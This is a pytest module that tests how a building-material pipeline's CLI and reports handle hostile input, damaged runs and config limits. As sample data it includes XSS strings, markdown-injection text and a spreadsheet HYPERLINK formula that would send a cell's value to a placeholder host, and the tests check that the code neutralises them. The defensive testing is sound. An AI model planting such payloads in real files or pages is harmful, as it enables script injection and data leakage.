"""Hostile cases around runs (issue 19): text from inputs where mfa writes it, a published
run that was edited, settings without bounds, housekeeping; at the command line,
tracebacks that became one-line errors and answers a newcomer would misread (0 t for a
district that is not in the run, lon/lat given as metres). Each checks the message, the
exit code, no traceback, and that the published ``latest`` is byte-identical."""

from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import sys
import time
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from mfa.cli import app
from mfa.config import load_pipeline
from mfa.errors import ConfigError, InputDataError
from mfa.incremental import published_problem
from mfa.report import failure_markdown, report_markdown
from mfa.run import run_pipeline
from mfa.textsafe import csv_neutralise, md_escape
from tests.conftest import SAMPLE
from tests.test_bad_inputs import Base, _digest
from tests.test_hostile import _refused, _semicolon_csv, published_base

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def reg(tmp_path_factory) -> Base:
    """This module's published register run (see tests/test_hostile.py)."""
    return published_base(tmp_path_factory)


# ------------------------------------------------------------------ output built from input text


def test_error_text_is_not_markup(reg: Base) -> None:
    path, _ = _semicolon_csv(reg.tmp, "markup.csv", "[/b] [bold]x")
    result = CliRunner().invoke(
        app, ["run", str(reg.pipeline("case.toml", register=str(path))), "--no-prefect"]
    )
    assert result.exit_code == 2, result.output
    assert "'[/b] [bold]x'" in result.output
    assert "Traceback" not in result.output


def test_report_escapes_input_text(reg: Base) -> None:
    manifest = json.loads((reg.latest / "run.json").read_text())
    evil = "6\n# Injected\n<script>alert(1)</script> | [x](http://e) ="
    manifest["dropped"]["counts_by_reason"] = [{"count": 1, "reason": evil}]
    manifest["status"] = "<img src=x onerror=alert(1)>"
    text = report_markdown(manifest)
    assert "<script>" not in text and "<img" not in text
    assert not any(line.startswith("# Injected") for line in text.splitlines())
    assert "&lt;script&gt;" in text and r"\[x\]" in text
    failed = failure_markdown("p", "r", "s", ValueError("```\n# Out\n<script>"))
    fence = failed.splitlines()[4]
    assert set(fence) == {"`"} and len(fence) > 3


@given(st.text(max_size=30))
def test_md_escape_is_one_inert_line(text: str) -> None:
    out = md_escape(text)
    assert "\n" not in out and "\r" not in out and "<" not in out and ">" not in out
    assert not re.search(r"(?<!\\)[#*\[\]|`]", out)


def test_dropped_csv_has_no_formulas(reg: Base, tmp_path: Path) -> None:
    df = gpd.read_parquet(reg.tmp / "register.parquet")
    evil = '=HYPERLINK("http://e.example/?"&A1,"x")'
    gone = int(np.flatnonzero(df["status"] != "6")[0])
    df.loc[df.index[gone], "id_lokalId"] = evil
    df.to_parquet(tmp_path / "formula.parquet")
    run = run_pipeline(
        reg.pipeline("case.toml", register=str(tmp_path / "formula.parquet")), tmp_path
    )
    dropped = pd.read_csv(run / "dropped.csv", dtype=str, keep_default_na=False)
    cells = dropped.to_numpy().ravel()
    assert "'" + evil in cells
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)


def test_csv_neutralise_follows_owasp() -> None:
    s = pd.Series(["=1+1", "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", "-12.5", "+3", "ok", None])
    got = csv_neutralise(s).tolist()
    assert got[:6] == ["'=1+1", "'+cmd", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx"]
    assert got[6:9] == ["-12.5", "+3", "ok"] and pd.isna(got[9])


# ------------------------------------------------------------------ trusting what is published


@pytest.fixture
def own_run(reg: Base, tmp_path: Path) -> tuple[Path, Path]:
    """A pipeline of its own with one published run (cases here damage it on purpose)."""
    pipeline = reg.pipeline("own.toml", draws="20")
    out = tmp_path / "out"
    return pipeline, run_pipeline(pipeline, out)


def test_if_changed_trusts_an_intact_latest(own_run: tuple[Path, Path]) -> None:
    pipeline, run = own_run
    assert run_pipeline(pipeline, run.parent.parent, force=False) == run


@pytest.mark.parametrize("damage", ["edit", "truncate", "delete"])
def test_if_changed_recomputes_a_damaged_latest(
    own_run: tuple[Path, Path], damage: str, caplog
) -> None:
    pipeline, run = own_run
    layer = run / "districts.parquet"
    if damage == "edit":
        d = gpd.read_parquet(layer)
        d.loc[0, "concrete_t"] *= 3
        d.to_parquet(layer)
    elif damage == "truncate":
        layer.write_bytes(layer.read_bytes()[:100])
    else:
        layer.unlink()
    result = CliRunner().invoke(
        app, ["run", str(pipeline), "--no-prefect", "--if-changed", "-o", str(run.parent.parent)]
    )
    assert result.exit_code == 0, result.output
    assert "districts.parquet" in caplog.text and "running in full" in caplog.text
    new = (run.parent / "latest").resolve()
    assert new != run
    assert json.loads((new / "run.json").read_text())["files"]["districts.parquet"]["sha256"]


def test_damaged_previous_manifest_does_not_block(own_run: tuple[Path, Path]) -> None:
    pipeline, run = own_run
    (run / "run.json").write_text('{"totals_t": ')  # truncated
    new = run_pipeline(pipeline, run.parent.parent, force=False)
    assert new != run and (new / "report.md").is_file()


# ------------------------------------------------------------------ bounds


@pytest.mark.parametrize(
    ("cron", "expected"),
    [("0 0 2 * * *", "has 6 fields"), ("*/5 * * * *", "every 5 min"), ("0,1 3 * * *", "1 min")],
)
def test_schedules_too_often_are_refused(reg: Base, cron: str, expected: str) -> None:
    good = (reg.tmp / "good.toml").read_text()
    bad = reg.pipeline("sched.toml", text=good + f'\n[schedule]\ncron = "{cron}"\n')
    with pytest.raises(ConfigError, match=expected):
        load_pipeline(bad)
    result = CliRunner().invoke(app, ["validate", str(bad)])
    assert result.exit_code == 2 and "Traceback" not in result.output


def test_grid_too_fine_for_the_extent(reg: Base) -> None:
    _refused(
        reg,
        reg.pipeline("case.toml", cell="1"),
        ConfigError,
        r"grid.cell_size_m = 1 m",
        r"raster cells",
        "max_raster_cells",
    )


@pytest.mark.parametrize("register", ["parquet", "csv"])
def test_file_read_whole_over_the_size_bound(reg: Base, tmp_path: Path, register: str) -> None:
    """An input mfa reads whole that is larger than [compute] max_whole_file_mb is refused
    by name and size before any data is read (`mfa validate` too); a GeoParquet register
    is read in batches and never counts."""
    good = (reg.tmp / "good.toml").read_text()
    text = good + "\n[compute]\nmax_whole_file_mb = 0.05\n"
    if register == "csv":
        csv = tmp_path / "register.csv"
        gpd.read_parquet(reg.values["register"]).drop(columns="geometry").to_csv(csv, index=False)
        assert csv.stat().st_size > 50_000
        text = text.replace(reg.values["register"], str(csv))
    bad = reg.pipeline("size.toml", text=text)
    districts = Path(reg.values["districts"])
    biggest = districts if register == "parquet" else tmp_path / "register.csv"
    mb = f"{biggest.stat().st_size / 1e6:,.1f} MB"
    message = _refused(
        reg, bad, InputDataError, re.escape(f"{biggest}: {mb}"), "max_whole_file_mb = 0.05 MB"
    )
    assert ("GeoParquet" in message) == (register == "csv")
    result = CliRunner().invoke(app, ["validate", str(bad)])
    assert result.exit_code == 2 and "max_whole_file_mb" in result.output


# ------------------------------------------------------------------ housekeeping


def test_pruning_and_cleanup_touch_only_mfa_files(reg: Base, tmp_path: Path) -> None:
    pipeline = reg.pipeline("keep.toml", text=(reg.tmp / "good.toml").read_text())
    text = pipeline.read_text().replace('name = "bad"', 'name = "keep"')
    pipeline.write_text(text + "\n[output]\nkeep_runs = 1\n")
    out = tmp_path / "out"
    first = run_pipeline(pipeline, out)
    folder = first.parent
    notes = folder / "2020-notes"
    notes.mkdir()
    (notes / "mine.txt").write_text("keep me")
    (notes / "draft.tmp").write_text("mine too")
    (folder / "old-run-copy").mkdir()
    second = run_pipeline(pipeline, out)
    assert not first.exists() and second.exists()  # mfa's own old run was pruned
    assert (notes / "mine.txt").read_text() == "keep me"
    assert (notes / "draft.tmp").is_file() and (folder / "old-run-copy").is_dir()


def _query(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(app, ["query", *args])
    assert "Traceback" not in result.output, result.output
    return result.exit_code, result.output


def test_zero_districts(reg, tmp_path: Path) -> None:
    d = gpd.read_file(SAMPLE / "dagi_sogne_2014_sample.gpkg", layer="sogne")
    d.iloc[:0].to_file(tmp_path / "zero.gpkg", layer="sogne")
    _refused(
        reg,
        reg.pipeline("case.toml", districts=str(tmp_path / "zero.gpkg")),
        InputDataError,
        "no districts .0 features.",
    )


def test_output_root_that_is_a_file(reg, tmp_path: Path) -> None:
    before = _digest(reg.latest)
    blocker = tmp_path / "not-a-folder"
    blocker.write_text("x")
    result = CliRunner().invoke(
        app, ["run", str(reg.tmp / "good.toml"), "--no-prefect", "-o", str(blocker)]
    )
    assert result.exit_code == 2, result.output
    assert "Not a directory" in result.output and "Traceback" not in result.output
    assert blocker.read_text() == "x" and _digest(reg.latest) == before


def test_query_unknown_district(reg) -> None:
    code, output = _query(str(reg.latest), "--district", "7175")
    assert code == 2 and "district(s) 7175 not in this run" in output


def test_query_lonlat_given_as_metres(reg) -> None:
    code, output = _query(str(reg.latest), "--around", "11.09,55.67")
    assert code == 2 and "outside the run's buildings" in output and "--around-lonlat" in output


@pytest.mark.parametrize("radius", ["nan", "inf", "-5"])
def test_query_radius_not_a_distance(reg, radius: str) -> None:
    code, output = _query(str(reg.latest), "--around", "650000,6150000", "--radius", radius)
    assert code == 2 and "--radius must be a number of metres > 0" in output


def test_query_damaged_run_folder(reg, tmp_path: Path) -> None:
    damaged = tmp_path / "run"
    damaged.mkdir()
    (damaged / "run.json").write_text('{"crs": "EPSG:25832", ')
    code, output = _query(str(damaged), "--around", "650000,6150000")
    assert code == 2 and "unreadable" in output and "damaged" in output
    code, output = _query(str(tmp_path), "--around-lonlat", "11.09,55.67")
    assert code == 2 and "not a run folder" in output


def test_query_within_a_wkt_file(reg, tmp_path: Path) -> None:
    box = gpd.read_parquet(reg.latest / "buildings.parquet").geometry.iloc[0].buffer(500).envelope
    site = tmp_path / "site.wkt"
    site.write_text(box.wkt)
    code, output = _query(str(reg.latest), "--within", str(site), "--format", "csv")
    assert code == 0, output
    assert "t_central" in output
    (tmp_path / "bad.wkt").write_text("POLYGON ((0 0, 1")
    code, output = _query(str(reg.latest), "--within", str(tmp_path / "bad.wkt"))
    assert code == 2 and "not WKT" in output


def test_ctrl_c_prints_one_line(reg, tmp_path: Path) -> None:
    """SIGINT (and SIGTERM) during a run: one line and exit code 130, or, when the run had
    already finished, its normal summary; never a traceback; latest stays whole."""
    for sig, delay in ((signal.SIGINT, 4.0), (signal.SIGTERM, 6.0)):
        before, was = _digest(reg.latest), reg.latest.resolve()
        proc = subprocess.Popen(
            [
                sys.executable,
                "-m",
                "mfa.cli",
                "run",
                str(reg.tmp / "good.toml"),
                "--no-prefect",
                "-o",
                str(reg.out),
            ],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        time.sleep(delay)
        proc.send_signal(sig)
        _, errors = proc.communicate(timeout=120)
        assert "Traceback" not in errors, errors
        now = reg.latest.resolve()
        if proc.returncode == 130:
            lines = [x for x in errors.splitlines() if x.startswith("interrupted")]
            assert len(lines) == 1, errors
        elif proc.returncode == -sig:  # while Python was exiting (its handlers restored):
            assert now != was, errors  # only after the run had published
        else:
            assert proc.returncode == 0, errors
        latest = json.loads((reg.latest / "run.json").read_text())
        assert latest["status"] == "succeeded"
        if now == was:
            assert _digest(reg.latest) == before
        else:  # the run finished first: a complete run, every file as run.json lists it
            assert published_problem(now, latest) is None


def _children(pid: int) -> list[int]:
    """Processes whose parent is ``pid`` (from /proc)."""
    out = []
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rsplit(")", 1)[1].split()
        except OSError:
            continue
        if int(fields[1]) == pid:
            out.append(int(stat.parent.name))
    return out


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"


@pytest.mark.prefect
def test_sigterm_stops_the_temporary_prefect_server(reg, tmp_path: Path) -> None:
    """`mfa run` in Prefect mode starts Prefect's temporary API server as a child process;
    SIGTERM (a service manager stopping a nightly run) must not leave it running."""
    env = {**os.environ, "PREFECT_HOME": str(tmp_path / "prefect")}
    proc = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "mfa.cli",
            "run",
            str(reg.tmp / "good.toml"),
            "-o",
            str(tmp_path / "out"),
        ],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
        env=env,
    )
    server: list[int] = []
    try:
        deadline = time.monotonic() + 120
        while not server and proc.poll() is None and time.monotonic() < deadline:
            time.sleep(0.5)
            children = _children(proc.pid)
            server = [c for c in children if b"uvicorn" in Path(f"/proc/{c}/cmdline").read_bytes()]
        assert server, "the temporary Prefect server was not seen"
        proc.send_signal(signal.SIGTERM)
        _, errors = proc.communicate(timeout=120)
        assert "Traceback" not in errors, errors
        deadline = time.monotonic() + 30
        while any(_alive(p) for p in server) and time.monotonic() < deadline:
            time.sleep(0.5)
        assert not any(_alive(p) for p in server), "the Prefect server outlived mfa run"
    finally:  # a failed check must not leave either process behind
        if proc.poll() is None:
            proc.kill()
            proc.wait()
        for p in server:
            if _alive(p):
                os.kill(p, signal.SIGKILL)


def test_no_command_writes_into_a_published_run(reg, tmp_path: Path) -> None:
    """`mfa query -o/--map` and `mfa run -o` pointing into `latest` are refused; nothing
    in the published run changes."""
    before = _digest(reg.latest)
    for option, name in (("--output", "answer.csv"), ("--map", "map.html")):
        code, output = _query(
            str(reg.latest), "--district", "7036", "--format", "csv", option, str(reg.latest / name)
        )
        assert code == 2 and "never writes into a published run" in output, output
    result = CliRunner().invoke(
        app, ["run", str(reg.tmp / "good.toml"), "--no-prefect", "-o", str(reg.latest / "o")]
    )
    assert result.exit_code == 2 and "never writes into a published run" in result.output
    assert _digest(reg.latest) == before
    code, output = _query(  # outside a run it still writes
        str(reg.latest), "--district", "7036", "--format", "csv", "-o", str(tmp_path / "a.csv")
    )
    assert code == 0 and (tmp_path / "a.csv").is_file(), output
